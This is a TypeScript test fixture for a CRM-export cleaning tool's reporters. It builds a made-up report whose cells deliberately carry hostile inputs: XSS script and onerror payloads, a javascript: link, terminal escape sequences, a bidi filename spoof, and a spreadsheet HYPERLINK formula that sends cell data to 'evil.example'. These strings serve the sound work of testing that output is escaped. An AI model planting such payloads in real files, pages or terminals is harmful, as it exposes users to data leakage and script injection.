@@ -1,0 +1,379 @@
+/** A made-up run over a hostile file, and one over an empty file, for the tests of every reporter. */
+import type { Report } from '../../src/report/schema.ts';
+import { scoreOf } from '../../src/report/score.ts';
+
+export const HOSTILE_CELLS = {
+  script: '<script>alert("x")</script>',
+  attribute: "\"><img src=x onerror='alert(1)'>",
+  terminal: '\u001b[2J\u001b]0;owned\u0007\u009b31mred\u001b[0m',
+  bidi: 'invoice\u202egnp.exe\u2066',
+  table: 'a|b `c` ``d`` **bold** @everyone #12 [x](javascript:alert(1)) <b>',
+  lines: 'line one\r\nline two\tand tab',
+  zalgo: `Z${'\u0301\u0489'.repeat(400)}algo`,
+  long: 'lorem ipsum dolor sit amet '.repeat(2000),
+  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  surrogate: 'half \ud83d emoji',
+  comment: '--><!-- </style></svg> &lt;b&gt; &amp;',
+} as const;
+
+const after = scoreOf({
+  completeness: { applied: 74_904, failed: 6_120 },
+  validity: { applied: 98_412, failed: 2_204 },
+  consistency: { applied: 49_936, failed: 1_811 },
+  uniqueness: { applied: 12_484, failed: 97 },
+  timeliness: { applied: 11_902, failed: 3_908 },
+  plausibility: { applied: 62_420, failed: 212 },
+});
+const before = scoreOf({
+  completeness: { applied: 74_904, failed: 6_093 },
+  validity: { applied: 98_412, failed: 19_233 },
+  consistency: { applied: 49_936, failed: 21_400 },
+  uniqueness: { applied: 12_484, failed: 655 },
+  timeliness: { applied: 11_902, failed: 4_120 },
+  plausibility: { applied: 62_420, failed: 388 },
+});
+
+const inputs: Report['inputs'] = [
+  {
+    path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.csv',
+    bytes: 3_481_220,
+    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+    rows: 12_000,
+    firstRow: 1,
+  },
+  {
+    path: '/srv/exports/2026-11/nachzügler 株式会社.csv.gz',
+    bytes: 140_112,
+    sha256: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752',
+    rows: 484,
+    firstRow: 12_001,
+  },
+];
+
+const fields: Report['fields'] = [
+  ['Record ID', 'id', 1, 'label "Record ID" (hubspot)', {}, 12_484, 0],
+  ['First Name', 'first_name', 1, 'label "First Name" (hubspot)', {}, 12_390, 2_114],
+  ['Last Name', 'last_name', 1, 'label "Last Name" (hubspot)', {}, 12_201, 2_502],
+  ['Email', 'email', 1, 'label "Email" (hubspot)', {}, 11_872, 1_377],
+  [
+    'Phone Number',
+    'phone',
+    1,
+    'label "Phone Number" (hubspot)',
+    { phoneCountry: 'DE', phoneCountryEvidence: '91 % of rows are in DE' },
+    8_040,
+    6_911,
+  ],
+  ['Company name', 'company', 1, 'label "Company name" (hubspot)', {}, 10_004, 2_020],
+  [
+    'Letzter Kontakt',
+    'last_activity_at',
+    0.86,
+    '100 % of values look like dates; label "Letzter Kontakt"',
+    { dateOrder: 'dmy', dateOrderEvidence: '3,120 values have a first part above 12' },
+    9_870,
+    9_870,
+  ],
+  ['Country/Region', 'country', 0.97, 'label "Country/Region"', {}, 9_120, 3_408],
+  ['Postal Code', 'postal_code', 1, 'label "Postal Code" (hubspot)', {}, 8_800, 640],
+  ['Unsubscribed from all email', 'opt_out_email', 1, 'label (hubspot)', {}, 12_484, 311],
+  ['会社名（カナ）', null, 0, 'no label known, values do not look like anything', {}, 310, 0],
+  [HOSTILE_CELLS.attribute, null, 0, HOSTILE_CELLS.script, {}, 2, 0],
+  ['notes | `raw`\u001b[31m', 'notes', 0.62, '64 % of values are sentences', {}, 4_411, 988],
+].map(
+  ([column, role, confidence, reason, facts, filled, changed]) =>
+    ({
+      column,
+      role,
+      confidence,
+      reason,
+      facts,
+      filled,
+      empty: 12_484 - (filled as number),
+      changed,
+    }) as Report['fields'][number],
+);
+
+const rules: Report['rules'] = [
+  {
+    code: 'email-syntax/not-an-email',
+    severity: 'error',
+    dimension: 'validity',
+    count: 1_204,
+    checked: 11_872,
+    message: '{value} is not an email address',
+    columns: [{ column: 'Email', count: 1_204 }],
+    samples: [
+      { row: 18, column: 'Email', value: 'anna(at)firma.de', text: 'anna(at)firma.de is not an email address' },
+      {
+        row: 2_044,
+        column: 'Email',
+        value: HOSTILE_CELLS.script,
+        text: `${HOSTILE_CELLS.script} is not an email address`,
+      },
+      { row: 9_001, column: 'Email', value: 'siehe Notiz', text: 'siehe Notiz is not an email address' },
+    ],
+  },
+  {
+    code: 'phone-number/lost-digits',
+    severity: 'error',
+    dimension: 'validity',
+    count: 61,
+    checked: 8_040,
+    message: 'a spreadsheet turned this number into {value}: its last digits are lost',
+    columns: [{ column: 'Phone Number', count: 61 }],
+    samples: [
+      {
+        row: 310,
+        column: 'Phone Number',
+        value: '3.58E+11',
+        text: 'a spreadsheet turned this number into 3.58E+11: its last digits are lost',
+      },
+    ],
+  },
+  {
+    code: 'email-typo/did-you-mean',
+    severity: 'warning',
+    dimension: 'plausibility',
+    count: 88,
+    checked: 11_872,
+    message: 'did you mean {suggestion}?',
+    columns: [{ column: 'Email', count: 88 }],
+    samples: [
+      { row: 77, column: 'Email', value: 'jo@gmial.com', text: 'did you mean jo@gmail.com?' },
+      { row: 5_120, column: 'Email', value: '田中@例え.テスト', text: 'did you mean 田中@例え.jp?' },
+    ],
+  },
+  {
+    code: 'staleness/stale',
+    severity: 'warning',
+    dimension: 'timeliness',
+    count: 3_908,
+    checked: 11_902,
+    message: 'no activity for more than {months} months',
+    columns: [{ column: 'Letzter Kontakt', count: 3_908 }],
+    samples: [
+      { row: 4, column: 'Letzter Kontakt', value: '2021-03-01', text: 'no activity for more than 24 months' },
+      { row: 5, column: 'Letzter Kontakt', value: '2019-11-30', text: 'no activity for more than 24 months' },
+    ],
+  },
+  {
+    code: 'required/empty',
+    severity: 'warning',
+    dimension: 'completeness',
+    count: 6_120,
+    checked: 74_904,
+    message: '{column} is empty',
+    columns: [
+      { column: 'Phone Number', count: 4_444 },
+      { column: 'Email', count: 612 },
+      { column: 'Company name', count: 500 },
+      { column: HOSTILE_CELLS.attribute, count: 564 },
+    ],
+    samples: [{ row: 1, column: 'Phone Number', value: '', text: 'Phone Number is empty' }],
+  },
+  {
+    code: 'formula-injection/formula',
+    severity: 'warning',
+    dimension: 'plausibility',
+    count: 3,
+    checked: 124_840,
+    message: 'a spreadsheet would run {value}',
+    columns: [{ column: 'notes | `raw`\u001b[31m', count: 3 }],
+    samples: [
+      {
+        row: 700,
+        column: 'notes | `raw`\u001b[31m',
+        value: HOSTILE_CELLS.formula,
+        text: `a spreadsheet would run ${HOSTILE_CELLS.formula}`,
+      },
+      {
+        row: 701,
+        column: 'notes | `raw`\u001b[31m',
+        value: HOSTILE_CELLS.terminal,
+        text: `a spreadsheet would run ${HOSTILE_CELLS.terminal}`,
+      },
+      {
+        row: 702,
+        column: 'notes | `raw`\u001b[31m',
+        value: HOSTILE_CELLS.table,
+        text: `a spreadsheet would run ${HOSTILE_CELLS.table}`,
+      },
+    ],
+  },
+  {
+    code: 'suspicious-text/bidi',
+    severity: 'warning',
+    dimension: 'plausibility',
+    count: 2,
+    checked: 124_840,
+    message: '{value} holds marks that turn the reading direction round',
+    columns: [{ column: 'Company name', count: 2 }],
+    samples: [
+      { row: 88, column: 'Company name', value: HOSTILE_CELLS.bidi, text: `${HOSTILE_CELLS.bidi} holds marks` },
+      { row: 89, column: 'Company name', value: HOSTILE_CELLS.surrogate, text: 'half an emoji' },
+      { row: 90, column: 'Company name', value: 'شركة الاتصالات 2020 (Cairo)', text: 'right to left' },
+    ],
+  },
+];
+
+const changes: Report['changes'] = [
+  {
+    rule: 'date-iso',
+    risk: 'safe',
+    count: 9_870,
+    columns: [{ column: 'Letzter Kontakt', count: 9_870 }],
+    samples: [
+      { row: 1, column: 'Letzter Kontakt', before: '3.4.2024', after: '2024-04-03' },
+      { row: 2, column: 'Letzter Kontakt', before: '28/11/23', after: '2023-11-28' },
+    ],
+  },
+  {
+    rule: 'phone-e164',
+    risk: 'safe',
+    count: 6_911,
+    columns: [{ column: 'Phone Number', count: 6_911 }],
+    samples: [
+      { row: 1, column: 'Phone Number', before: '(030) 12 34-567', after: '+49301234567' },
+      { row: 3, column: 'Phone Number', before: '0049 30 / 998877', after: '+4930998877' },
+    ],
+  },
+  {
+    rule: 'whitespace',
+    risk: 'safe',
+    count: 4_018,
+    columns: [
+      { column: 'Last Name', count: 2_502 },
+      { column: 'First Name', count: 1_516 },
+    ],
+    samples: [
+      { row: 9, column: 'Last Name', before: '  Núñez\u00a0 de  Vega ', after: 'Núñez de Vega' },
+      { row: 14, column: 'First Name', before: 'Ana\u200b', after: 'Ana' },
+      { row: 15, column: 'Last Name', before: HOSTILE_CELLS.lines, after: 'line one line two and tab' },
+    ],
+  },
+  {
+    rule: 'mojibake',
+    risk: 'safe',
+    count: 640,
+    columns: [{ column: 'Company name', count: 640 }],
+    samples: [
+      { row: 40, column: 'Company name', before: 'MÃ¼ller & SÃ¶hne', after: 'Müller & Söhne' },
+      { row: 41, column: 'Company name', before: '株式会社ｻﾝﾌﾟﾙ', after: '株式会社サンプル' },
+      { row: 42, column: 'Company name', before: HOSTILE_CELLS.zalgo, after: 'Zalgo' },
+      { row: 43, column: 'Company name', before: HOSTILE_CELLS.long, after: HOSTILE_CELLS.comment },
+    ],
+  },
+  {
+    rule: 'name-case',
+    risk: 'opt-in',
+    count: 598,
+    columns: [{ column: 'First Name', count: 598 }],
+    samples: [
+      { row: 61, column: 'First Name', before: 'JEAN-LUC', after: 'Jean-Luc' },
+      { row: 62, column: 'First Name', before: '', after: 'Maria' },
+    ],
+  },
+];
+
+export const sample: Report = {
+  schemaVersion: 1,
+  tool: { name: 'crmq', version: '0.1.0' },
+  asOf: '2026-11-22',
+  inputs,
+  crm: 'hubspot',
+  kind: 'contact',
+  crmReason: '9 of 13 labels are HubSpot contact export labels',
+  dialect: {
+    format: 'csv',
+    encoding: 'windows-1252',
+    bom: false,
+    delimiter: ';',
+    quote: '"',
+    eol: '\r\n',
+    headerRows: 1,
+    sepLine: true,
+    gzip: false,
+    reason: 'sep= line; 0x80–0x9F bytes make words in windows-1252',
+  },
+  rows: { read: 12_484, written: 11_912, merged: 558, rejected: 14 },
+  dropped: { preamble: 1, blank: 12, footer: 3, repeatedHeader: 1 },
+  score: after.score,
+  dimensions: after.dimensions,
+  before: { score: before.score, dimensions: before.dimensions },
+  fields,
+  rules,
+  changes,
+  duplicates: {
+    enabled: true,
+    clusters: 501,
+    merged: 558,
+    review: 97,
+    stats: { comparedPairs: 184_220, skippedBlocks: 2, bytesPerRecord: 212.5 },
+    samples: [
+      { cluster: 1, rows: [12, 840, 12_003], why: 'same email; first and last name alike; phones do not conflict' },
+      { cluster: 2, rows: [33, 5_001], why: `same phone; company ${HOSTILE_CELLS.attribute}` },
+    ],
+  },
+  rejected: [
+    {
+      reason: 'unclosed-quote',
+      count: 11,
+      samples: [
+        { row: 4_410, line: 4_433, text: `"4410";"Eva;${HOSTILE_CELLS.script}` },
+        { row: 9_112, line: 9_140, text: HOSTILE_CELLS.long },
+      ],
+    },
+    { reason: 'ragged-row', count: 3, samples: [{ row: 77, line: 79, text: '77;Max;Muster;;;;;;;;;;;;extra;cells' }] },
+  ],
+  staleness: {
+    fresh: 5_120,
+    ageing: 2_874,
+    stale: 3_908,
+    unknown: 582,
+    expectedDecay: { ratePerYear: 0.225, expectedPerYear: 1_152 },
+  },
+  outputs: [
+    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.clean.csv', kind: 'clean', rows: 11_428 },
+    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.report.html', kind: 'report', rows: null },
+    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.crmq/changes.csv', kind: 'changes', rows: 22_037 },
+    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.crmq/rejected.csv', kind: 'rejected', rows: 14 },
+  ],
+  notes: [
+    'fixed match weights were used: too few expected matches to train on',
+    `column ${HOSTILE_CELLS.attribute} was passed through`,
+    HOSTILE_CELLS.terminal,
+  ],
+};
+
+const nothing = scoreOf({});
+
+/** A file with a header and no records. */
+export const empty: Report = {
+  ...sample,
+  inputs: [
+    {
+      path: '-',
+      bytes: 0,
+      sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+      rows: 0,
+      firstRow: 1,
+    },
+  ],
+  crm: 'unknown',
+  kind: 'unknown',
+  crmReason: 'no labels known',
+  rows: { read: 0, written: 0, merged: 0, rejected: 0 },
+  dropped: { preamble: 0, blank: 0, footer: 0, repeatedHeader: 0 },
+  score: nothing.score,
+  dimensions: nothing.dimensions,
+  before: { score: nothing.score, dimensions: nothing.dimensions },
+  fields: [],
+  rules: [],
+  changes: [],
+  duplicates: { enabled: false, clusters: 0, merged: 0, review: 0, stats: {}, samples: [] },
+  rejected: [],
+  staleness: { fresh: 0, ageing: 0, stale: 0, unknown: 0, expectedDecay: null },
+  outputs: [],
+  notes: [],
+};
